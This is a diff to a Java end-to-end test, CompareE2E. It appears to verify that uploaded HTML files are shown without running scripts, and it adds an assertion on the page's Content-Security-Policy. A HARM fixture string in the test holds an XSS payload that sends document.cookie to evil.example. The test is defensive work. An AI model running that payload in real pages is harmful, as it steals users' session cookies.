@@ -20,6 +20,8 @@ import org.junit.jupiter.api.Test;
 class CompareE2E {
     private static final String PROJECT = "/t/acme/p/churn";
     /// Whatever of it runs says so: in the page, in its own frame, or to another server.
+    private static final String POLICY =
+            "fetch(location.href).then(page => page.headers.get('Content-Security-Policy'))";
     private static final String HARM =
             "window.owned = 1; document.body.dataset.owned = 1; top.owned = 1; fetch('https://evil.example/' + document.cookie)";
 
@@ -159,6 +161,7 @@ class CompareE2E {
         try (var owner = visitor()) {
             var asked = owner.listen();
             openFiles(owner, run);
+            assertThat((String) owner.evaluate(POLICY)).contains("default-src 'self'");
             choose(owner, "page.html").sees("Shown without scripts");
             var frame = owner.find("iframe.tn-frame").contentFrame();
             frame.getByText("Report").waitFor();
